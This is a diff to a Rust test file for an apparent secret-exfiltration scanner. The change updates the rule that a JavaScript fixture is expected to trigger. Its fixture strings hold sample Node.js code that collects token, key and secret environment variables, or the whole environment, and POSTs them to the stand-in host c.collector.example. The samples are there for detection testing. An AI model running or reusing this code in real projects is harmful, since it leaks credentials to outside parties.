@@ -308,7 +308,12 @@ fn round_12_harvested_env_and_prose_key_reads() {
     // written on a later line): collected on purpose.
     let rule = "exfiltration.read-and-send";
     let js = "const https = require('node:https');\nconst ctx = Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/i.test(k)));\nconst req = https.request({ hostname: 'c.collector.example', method: 'POST' });\nreq.end(JSON.stringify(ctx));\n";
-    assert_eq!(worst(&[("scripts/a.js", js)], rule), Some(Critical));
+    // (Since round 29c the request object's `end(…)` is followed, so the harvest reaches the
+    // request as a flow, `exfiltration.secret-to-network`, instead of the unconnected rule.)
+    assert_eq!(
+        worst(&[("scripts/a.js", js)], "exfiltration.secret-to-network"),
+        Some(Critical)
+    );
     // The whole environment (no names picked) to an unknown host stays below critical.
     let dump = "const https = require('node:https');\nconst ctx = { ...process.env };\nconst req = https.request({ hostname: 'c.collector.example', method: 'POST' });\nreq.end(JSON.stringify(ctx));\n";
     assert!(worst(&[("scripts/a.js", dump)], rule).is_none_or(|s| s < Critical));
